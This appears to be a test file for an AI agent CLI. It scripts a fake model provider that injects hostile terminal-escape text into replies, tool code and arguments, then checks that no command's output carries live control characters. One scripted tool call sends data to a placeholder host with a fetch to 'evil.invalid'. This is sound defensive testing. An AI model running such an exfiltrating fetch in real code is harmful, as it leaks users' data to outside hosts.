/** Hostile text of models and tools through every command that shows it: on a terminal and in a pipe, no byte of it is obeyed. */
import { spawn, spawnSync } from 'node:child_process'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { terminalVectors } from '../cli/fixtures/terminal-vectors.ts'
import { startLoopbackProvider } from '../models/fixtures/loopback-provider.ts'
import type { LoopbackProvider, LoopbackStep } from '../models/fixtures/loopback-provider.ts'
import { emptyEnvironment, root, temporaryFolder } from './program.ts'

const hasScript = spawnSync('script', ['--version']).status === 0
const hostile = Object.values(terminalVectors).join('\n').toWellFormed()
/** As an argument of a program: without NUL. */
const word = hostile.replaceAll('\0', '')

const says = (name: string, fields: unknown): LoopbackStep => ({
  type: 'reply',
  calls: [{ name, arguments: fields }],
  reasoning: hostile,
})
const code = `export default async function say(_args: {}, ctx: ToolContext): Promise<Json> {
  const text: string = ${JSON.stringify(hostile)}
  ctx.log(text)
  console.log(text)
  return [{ [text]: text, n: 1 }, { [text]: text, n: 2 }]
}
`
const parameters = { type: 'object', description: hostile, properties: {} }
const requirements = says('set_requirements', { requirements: [{ text: hostile, basis: 'results' }] })
const verdict = (route: string, status: string, evidence: string[]): LoopbackStep =>
  says('give_verdict', {
    route,
    reason: hostile,
    tips: [hostile, hostile, hostile],
    requirements: [{ id: 'R1', status, evidence, note: hostile }],
  })
const steps: LoopbackStep[] = [
  requirements,
  says('create_tool', {
    message: hostile,
    tool: { name: 'say', description: hostile, parameters, code, examples: [] },
    call: { args: {} },
  }),
  says('run_code', { message: hostile, code: `throw new Error(${JSON.stringify(hostile)})` }),
  says('run_code', { message: hostile, code: `await fetch('http://evil.invalid/' + ${JSON.stringify(hostile)})` }),
  says('call_tool', { message: hostile, call: { name: hostile, args: { [hostile]: hostile } } }),
  { type: 'reply', text: hostile, reasoning: hostile },
  says('create_agent', {
    message: hostile,
    agent: { name: 'speaker', role: hostile, system_prompt: hostile, capabilities: [hostile], tools: [] },
    call: { task: hostile },
  }),
  { type: 'reply', text: hostile },
  says('final', { message: hostile, answer: hostile, evidence: ['r1'] }),
  verdict('coder', 'unmet', []),
  says('ask_user', { message: hostile, question: hostile, needs: [hostile] }),
]
const second: LoopbackStep[] = [
  says('final', { message: hostile, answer: hostile, evidence: ['r1'] }),
  verdict('end', 'met', ['r1']),
]

interface Shown {
  bytes: string
  code: number | null
}

let cwd: string
let provider: LoopbackProvider

/** @param onTerminal both streams are one pseudo-terminal's; else stderr alone, and stdout where a person reads it. */
function run(program: string, words: string[], onTerminal: boolean): Promise<Shown> {
  const argv = [process.execPath, join(root, 'bin', `${program}.js`), ...words]
  const quoted = argv.map((part) => `'${part.replaceAll("'", `'\\''`)}'`).join(' ')
  const child = onTerminal
    ? spawn('script', ['-qec', quoted, '/dev/null'], { cwd, env: environment(), stdio: ['ignore', 'pipe', 'pipe'] })
    : spawn(argv[0]!, argv.slice(1), { cwd, env: environment(), stdio: ['ignore', 'pipe', 'pipe'] })
  let bytes = ''
  for (const stream of [child.stdout, child.stderr])
    stream.setEncoding('utf8').on('data', (text: string) => (bytes += text))
  return new Promise((resolve) => child.on('close', (exit) => resolve({ bytes, code: exit })))
}

function environment(): Record<string, string> {
  return {
    ...emptyEnvironment(cwd),
    // No colours and no moving line: every escape in the output came from somebody else.
    TERM: 'dumb',
    NO_COLOR: '1',
    OPENAI_BASE_URL: provider.openaiUrl,
    OPENAI_API_KEY: 'key-for-tests',
    OPENAI_MODEL: 'm',
  }
}

function live(bytes: string): string[] {
  const found = bytes.replaceAll('\r\n', '\n').matchAll(
    // oxlint-disable-next-line no-control-regex -- control characters are what this looks for
    /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u061c\u200b\u200e\u200f\u2028-\u202e\u2060-\u206f\ufeff\u{e0000}-\u{e0fff}]/gu,
  )
  return [...found].map(
    ({ 0: character, index }) =>
      `${character.codePointAt(0)!.toString(16)}: ${JSON.stringify(bytes.slice(Math.max(0, index - 60), index + 20))}`,
  )
}

describe.skipIf(!hasScript)('every output', () => {
  let runs: string[] = []
  let asked: Shown
  let resumed: Shown
  beforeAll(async () => {
    cwd = temporaryFolder()
    provider = await startLoopbackProvider([...steps, ...second])
    asked = await run('autoagent', ['-q', word, '--session-id', 's'], true)
    resumed = await run('autoagent', ['-q', word, '--session-id', 's', '--resume'], true)
    const listed = await run('autoagent', ['runs', 'list', '--output-format', 'json'], false)
    runs = (JSON.parse(listed.bytes) as { runId: string }[]).map(({ runId }) => runId)
  }, 120_000)
  afterAll(() => provider?.close())

  const commands = (): [program: 'autoagent' | 'manage-sessions', words: string[]][] => {
    const [last = '', first = ''] = runs
    return [
      ['autoagent', ['runs', 'list']],
      ['autoagent', ['runs', 'show', first]],
      ['autoagent', ['runs', 'show', last]],
      ['autoagent', ['runs', 'verdicts', first]],
      ['autoagent', ['runs', 'diff', first, last]],
      ['autoagent', ['runs', 'replay', first]],
      ['autoagent', ['tools', 'list']],
      ['autoagent', ['tools', 'show', 'say']],
      ['autoagent', ['tools', 'search', word]],
      ['autoagent', ['tools', 'versions', 'say']],
      ['autoagent', ['tools', 'run', 'say', '--help']],
      ['autoagent', ['tools', 'test']],
      ['autoagent', ['agents', 'list']],
      ['autoagent', ['agents', 'show', 'speaker']],
      ['autoagent', ['doctor']],
      ['manage-sessions', ['list']],
      ['manage-sessions', ['list', '--format', 'json']],
      ['manage-sessions', ['show', 's']],
      ['manage-sessions', ['clean', '--days', '0', '--dry-run']],
      // Errors that repeat what was typed.
      ['autoagent', ['runs', 'show', word]],
      ['autoagent', ['tools', 'show', word]],
      ['autoagent', ['tools', 'run', word]],
      ['autoagent', ['tools', 'run', 'say', word]],
      ['autoagent', ['agents', 'show', word]],
      ['autoagent', ['-q', 'x', '--session-id', word]],
      ['autoagent', ['-q', 'x', '--allow-read', word, '--max-turns', word]],
      ['autoagent', ['-q', 'x', '-C', word]],
      ['autoagent', ['-q', 'x', '-o', `${word}/x`]],
      ['autoagent', [word]],
      ['autoagent', [`--${word}`]],
      ['manage-sessions', ['show', word]],
      ['manage-sessions', ['import', word]],
      ['manage-sessions', [word]],
    ]
  }
  /** What goes to a program is given as it is; a terminal gets it harmless. */
  const forPrograms = (last: string): [program: 'autoagent' | 'manage-sessions', words: string[]][] => [
    ['autoagent', ['tools', 'run', 'say']],
    ['autoagent', ['runs', 'show', last, '--format', 'json']],
    ['autoagent', ['runs', 'list', '--output-format', 'json']],
    ['manage-sessions', ['export', 's', '--output', '-', '--format', 'md']],
    ['manage-sessions', ['export', 's', '--output', '-', '--format', 'json']],
  ]

  test('the runs themselves', () => {
    expect(asked.code === 59 ? '' : asked.bytes.slice(-3_000)).toBe('')
    expect(resumed.code === 0 ? '' : resumed.bytes.slice(-3_000)).toBe('')
    expect(live(asked.bytes)).toEqual([])
    expect(live(resumed.bytes)).toEqual([])
    for (const { bytes } of [asked, resumed]) expect(bytes).toContain('seen')
    expect(runs).toHaveLength(2)
  })

  test.each([true, false])('on a terminal: %s', { timeout: 120_000 }, async (onTerminal) => {
    const all = onTerminal ? [...commands(), ...forPrograms(runs[0]!)] : commands()
    const found: [command: string, live: string[]][] = []
    for (const [program, words] of all) {
      const { bytes } = await run(program, words, onTerminal)
      const bad = bytes === '' ? ['nothing was shown'] : live(bytes)
      if (bad.length > 0) found.push([`${program} ${words.slice(0, 3).join(' ').slice(0, 60)}`, bad.slice(0, 3)])
    }
    expect(found).toEqual([])
  })
})
